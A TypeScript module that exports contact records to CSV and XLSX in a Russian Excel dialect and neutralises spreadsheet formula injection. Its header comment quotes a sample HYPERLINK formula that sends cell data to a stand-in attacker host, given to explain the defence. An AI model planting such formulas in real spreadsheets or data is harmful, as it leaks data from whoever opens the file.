/**
 * Contacts out to CSV and XLSX (AU-8), the pure part: the columns, each under the header the import
 * recognises (so an export imports back unchanged), and the defence against formula injection.
 *
 * A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
 * return) as a formula: `=HYPERLINK("http://evil/?"&A1)` typed into a contact's name would run on
 * the operator's machine when the export is opened. Such cells are written with a leading `'`, which
 * the spreadsheet shows as text; the import takes that `'` off again (restoreQuoted), so a phone
 * `+79123456789` exported as `'+79123456789` comes back as it was.
 */
import { cellText } from './values.ts';

const FORMULA_START = /^[=+\-@\t\r]/;
const QUOTED = /^'[=+\-@\t\r]/;

/** A cell safe to open in a spreadsheet. */
export const neutralise = (text: string): string => (FORMULA_START.test(text) ? `'${text}` : text);

/** Undoes neutralise on an imported cell: `'=1+1` → `=1+1`; anything else as it is. */
export function restoreQuoted<T>(cell: T): T {
  return typeof cell === 'string' && QUOTED.test(cell) ? (cell.slice(1) as T) : cell;
}

/** A contact as the export sees it: stored fields, its plots and accounts, and the amounts on them. */
export interface ExportContact {
  externalId: string | null;
  lastName: string;
  firstName: string;
  middleName: string;
  phone: string | null;
  email: string | null;
  telegramChatId: string | null;
  timeZone: string | null;
  gender: 'male' | 'female' | null;
  birthDate: string | null;
  attributes: Record<string, unknown>;
  accounts: string | null;
  plots: string | null;
  chargesKopecks: number | null;
  debtKopecks: number | null;
}

/** A cell of an export: text, a number (amounts in roubles in XLSX), or empty. */
export type ExportCell = string | number | boolean | null;

/** The headers the import's suggestMapping maps back to the same fields. */
const FIXED: [string, (c: ExportContact) => ExportCell][] = [
  ['Внешний код', (c) => c.externalId],
  ['Фамилия', (c) => c.lastName || null],
  ['Имя', (c) => c.firstName || null],
  ['Отчество', (c) => c.middleName || null],
  ['Телефон', (c) => c.phone],
  ['E-mail', (c) => c.email],
  ['Telegram chat id', (c) => c.telegramChatId],
  ['Часовой пояс', (c) => c.timeZone],
  ['Пол', (c) => (c.gender === 'male' ? 'М' : c.gender === 'female' ? 'Ж' : null)],
  ['Дата рождения', (c) => c.birthDate],
  ['Лицевой счёт', (c) => c.accounts],
  ['Участок', (c) => c.plots],
  ['Начислено', (c) => (c.chargesKopecks === null ? null : c.chargesKopecks / 100)],
  ['Долг', (c) => (c.debtKopecks === null ? null : c.debtKopecks / 100)],
];

export interface ExportLayout {
  headers: string[];
  row(c: ExportContact): ExportCell[];
}

/** The columns: the fixed ones, then one per custom attribute key (its name as the header). */
export function exportLayout(attributeKeys: readonly string[]): ExportLayout {
  const keys = [...attributeKeys].sort();
  return {
    headers: [...FIXED.map(([h]) => h), ...keys],
    row: (c) => [
      ...FIXED.map(([, get]) => get(c)),
      ...keys.map((k) => {
        const v = c.attributes[k];
        if (v === undefined || v === null) return null;
        return typeof v === 'object' ? JSON.stringify(v) : (v as ExportCell);
      }),
    ],
  };
}

/** Roubles as the Russian Excel reads them: `1000,50`, `-200,00`. */
const roubles = (n: number): string => {
  const kopecks = Math.round(n * 100);
  const abs = Math.abs(kopecks);
  return `${kopecks < 0 ? '-' : ''}${Math.floor(abs / 100)},${String(abs % 100).padStart(2, '0')}`;
};

/**
 * One CSV line in the dialect of a Russian Excel: `;` between cells, CRLF at the end, a cell quoted
 * when it holds `;`, a quote or a line break. `amountColumns` are written as roubles with a comma.
 */
export function csvLine(cells: readonly ExportCell[], amountColumns: ReadonlySet<number>): string {
  return `${cells
    .map((cell, i) => {
      if (cell === null) return '';
      const text =
        typeof cell === 'number' && amountColumns.has(i) ? roubles(cell) : neutralise(cellText(cell));
      return /[;"\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
    })
    .join(';')}\r\n`;
}

/** The indexes of the amount columns of a layout. */
export const amountColumns = (headers: readonly string[]): Set<number> =>
  new Set(headers.flatMap((h, i) => (h === 'Начислено' || h === 'Долг' ? [i] : [])));
